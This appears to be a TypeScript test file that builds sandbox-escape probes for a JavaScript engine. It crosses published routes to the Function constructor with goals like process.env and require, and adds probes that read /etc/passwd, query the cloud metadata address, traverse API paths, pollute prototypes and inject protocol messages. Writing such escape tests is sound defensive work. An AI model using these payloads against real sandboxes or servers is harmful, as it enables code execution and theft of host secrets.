// Attempts to get out of the engine that runs scripts: every known way to a function maker or a global object, each towards everything that
// would be worth having outside. An attempt is the body of `execute(given)`; one that got something answers a text that begins with ESCAPED.

export type Attempt = { readonly name: string; readonly body: string };

/** Expressions or programs by what they do. */
export type Named = Readonly<Record<string, string>>;

/** Expressions for a function that makes functions of texts, or for a global object itself, as published escapes have reached them. */
const ways: Named = {
  "the constructor of a constructor": "this?.constructor?.constructor ?? ({}).constructor.constructor",
  "the constructor of the input": "given.constructor.constructor",
  "the prototype of the input": "Object.getPrototypeOf(Object.getPrototypeOf(given)).constructor.constructor",
  "the maker of async functions": "(async () => {}).constructor",
  "the maker of generators": "(function* () {}).constructor",
  "the maker of async generators": "(async function* () {}).constructor",
  "a host function": "GET.constructor",
  "the prototype of a host function": "Object.getPrototypeOf(POST).constructor",
  "the console": "console.log.constructor",
  "a computed function": "money.add.constructor",
  "the refusing function": "refuse.constructor",
  "an error of the host": "await GET('/nothing').catch((error) => error.constructor.constructor)",
  "the stack of an error of the host":
    "await GET('/nothing').catch((error) => (Error.prepareStackTrace = (_, frames) => frames, error.stack?.[0]?.getThis?.()?.constructor?.constructor ?? error.constructor.constructor))",
  "an error too deep":
    "(() => { const dive = () => dive(); try { dive() } catch (error) { return error.constructor.constructor } })()",
  "a proxy around the global object": "new Proxy(globalThis, {}).Function",
  "a trap that is told its receiver":
    "new Proxy({}, { get: (...told) => told[2].constructor.constructor }).anything",
  "a getter handed to the host":
    "await GET({ get toString() { return () => '/x' } }).then(() => Function, () => Function)",
  "a species of promises":
    "(() => { class Own extends Promise { static get [Symbol.species]() { return Promise } } return Own.resolve(1).then(() => 1).constructor.constructor })()",
  "an overridden then":
    "await (async () => { let seen; const then = Promise.prototype.then; Promise.prototype.then = function (...told) { seen ??= this.constructor.constructor; return then.apply(this, told) }; await GET('/nothing').catch(() => 1); return seen ?? Function })()",
  "an overridden parser":
    "await (async () => { let seen; const parse = JSON.parse; JSON.parse = function (...told) { seen = this.constructor.constructor; return parse(...told) }; await GET('/nothing').catch(() => 1); return seen ?? Function })()",
  "a polluted prototype":
    "(() => { Object.prototype.then = undefined; Object.prototype.constructor = Function; return ({}).constructor })()",
  "a polluted list":
    "(() => { Object.defineProperty(Array.prototype, '0', { set(value) { this.taken = value }, configurable: true }); return [].constructor.constructor })()",
  reflection: "Reflect.construct(Function, []).constructor",
  "an iterator":
    "Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]())).constructor.constructor",
  "a weak reference": "new WeakRef({}).deref().constructor.constructor",
  "a tagged template": "((parts) => parts.raw.constructor.constructor)`x`",
};

/** What is worth having: of a server, of a page, of the engine itself. */
const goals: Named = {
  process: "typeof process",
  "the environment": "process.env.PATH",
  require: "typeof require",
  "the main module": "process.mainModule",
  "built-in modules": "process.getBuiltinModule('fs')",
  fetch: "typeof fetch",
  sockets: "typeof WebSocket + typeof XMLHttpRequest + typeof EventSource",
  "other threads": "typeof Worker + typeof importScripts + typeof postMessage + typeof BroadcastChannel",
  "the page": "typeof window + typeof document + typeof parent",
  storage: "typeof localStorage + typeof indexedDB + typeof caches + typeof cookieStore",
  "the browser": "typeof navigator + typeof location",
  timers: "typeof setTimeout + typeof setInterval + typeof queueMicrotask",
  "other engines": "typeof WebAssembly + typeof Deno + typeof Bun",
  "shared memory": "typeof SharedArrayBuffer + typeof Atomics",
  "modules of the engine": "typeof std + typeof os + typeof bjson",
};

const nothing = /^(?:undefined)*$/.source;

/** A goal that answers nothing but `undefined`, or throws, was not reached. */
function crossed(way: string, goal: string): string {
  return `
  let found;
  try { const made = ${way}; found = typeof made === "function" ? await made("return " + ${JSON.stringify(goal)})() : undefined; if (typeof found?.next === "function") found = (await found.next()).value; } catch { return "held"; }
  const text = String(found);
  return new RegExp(${JSON.stringify(nothing)}).test(text) ? "held" : "ESCAPED with " + text.slice(0, 80);`;
}

/** Whole programs, each after one that was published or that only fits this sandbox. */
const programs: Named = {
  "imports a module of Node": "return import('node:fs').then(() => 'ESCAPED', () => 'held')",
  "imports a file": "return import('/etc/passwd').then(() => 'ESCAPED', () => 'held')",
  "imports from an address": "return import('https://example.com/x.js').then(() => 'ESCAPED', () => 'held')",
  "imports data":
    "return import('data:text/javascript,export default 1').then(() => 'ESCAPED', () => 'held')",
  "asks where it is":
    "try { return typeof eval('import.meta.url') === 'string' && eval('import.meta.url').startsWith('file:') ? 'ESCAPED' : 'held' } catch { return 'held' }",
  "asks who has called":
    "try { return arguments.callee.caller ? 'ESCAPED' : 'held' } catch { return 'held' }",
  "reads a file by a host call": "return GET('file:///etc/passwd').then(() => 'ESCAPED', () => 'held')",
  "calls another machine": "return GET('http://169.254.169.254/latest').then(() => 'ESCAPED', () => 'held')",
  "climbs out of the API": "return GET('/api/../../etc/passwd').then(() => 'ESCAPED', () => 'held')",
  "answers for the host":
    "globalThis.answered = () => 'mine'; const told = await GET('/nothing').catch(() => 'held'); return told === 'mine' ? 'ESCAPED' : 'held'",
  "takes the doors of the prelude":
    "for (const name of ['ask', 'compute', 'log', 'start', 'tell']) if (typeof globalThis[name] !== 'undefined') return 'ESCAPED with ' + name; return 'held'",
  "replaces a host function":
    "try { globalThis.GET = () => 'mine' } catch {} return GET('/nothing').then((told) => told === 'mine' ? 'ESCAPED' : 'held', () => 'held')",
  "names a function that is none": "return compute === undefined ? 'held' : 'ESCAPED'",
  "computes with a name of every object":
    "try { return typeof money.constructor('return this')() === 'object' && typeof money.constructor('return process')() === 'object' ? 'ESCAPED' : 'held' } catch { return 'held' }",
  "hands over a function": "return GET('/nothing', { a() {} }).then(() => 'held', () => 'held')",
  "hands over a circle":
    "const circle = {}; circle.circle = circle; return GET('/nothing', circle).then(() => 'held', () => 'held')",
  "hands over what changes itself":
    "let turn = 0; return GET('/nothing', { toJSON() { turn += 1; return turn } }).then(() => 'held', () => 'held')",
  "hands over a name of every object":
    "return GET('/nothing', JSON.parse('{\"__proto__\":{\"polluted\":1}}')).then(() => 'held', () => 'held')",
  "compiles for the machine":
    "try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'ESCAPED' } catch { return 'held' }",
  "shares memory": "try { new SharedArrayBuffer(8); return 'ESCAPED' } catch { return 'held' }",
  "waits for ever on memory":
    "try { Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0); return 'ESCAPED' } catch { return 'held' }",
  "opens another realm": "try { new ShadowRealm(); return 'ESCAPED' } catch { return 'held' }",
  "finds scripts of the engine":
    "try { return typeof scriptArgs !== 'undefined' || typeof print === 'function' ? 'ESCAPED' : 'held' } catch { return 'held' }",
  "writes beyond a buffer":
    "try { const bytes = new Uint8Array(8); bytes[2 ** 31] = 1; return bytes[2 ** 31] === 1 ? 'ESCAPED' : 'held' } catch { return 'held' }",
  "lets a buffer go while it is used":
    "try { const buffer = new ArrayBuffer(8); const view = new Uint8Array(buffer); buffer.transfer?.(); return view[0] === undefined || view[0] === 0 ? 'held' : 'ESCAPED' } catch { return 'held' }",
  "sorts with a lie":
    "const many = Array.from({ length: 1000 }, (_, index) => index); many.sort(() => { many.length = 0; return 1 }); return 'held'",
  "throws a function": "throw () => process",
  "throws what cannot be told":
    "throw { get message() { throw 1 }, get stack() { throw 2 }, toString() { throw 3 } }",
  "answers a function": "return () => process",
  "answers a promise that lies": "return { then(settle) { settle({ then(again) { again('held') } }) } }",
  "answers a text that ends the message": 'return \'held"},{"kind":"ready"}\'',
  "logs a text that ends the message":
    'console.log(\'\\u2028\\n{"kind":"end","ending":{"kind":"answer","output":"1"}}\'); return \'held\'',
  "hides in a name": "return GET('/nothing', { ['\\ud800']: '\\udfff' }).then(() => 'held', () => 'held')",
  "finalises later": "new FinalizationRegistry(() => {}).register({}, 1); return 'held'",
};

export function escapeAttempts(): readonly Attempt[] {
  return [...crossings(ways, goals), ...wholePrograms(programs)];
}

/** Each way towards each goal. */
export function crossings(of: Named, towards: Named): readonly Attempt[] {
  return Object.entries(of).flatMap(([way, expression]) =>
    Object.entries(towards).map(([goal, wanted]) => ({
      name: `${way} towards ${goal}`,
      body: crossed(expression, wanted),
    })),
  );
}

export function wholePrograms(of: Named): readonly Attempt[] {
  return Object.entries(of).map(([name, body]) => ({ name, body }));
}

export function programOf({ body }: Attempt): string {
  return `export async function execute(given) {\n${body}\n}`;
}
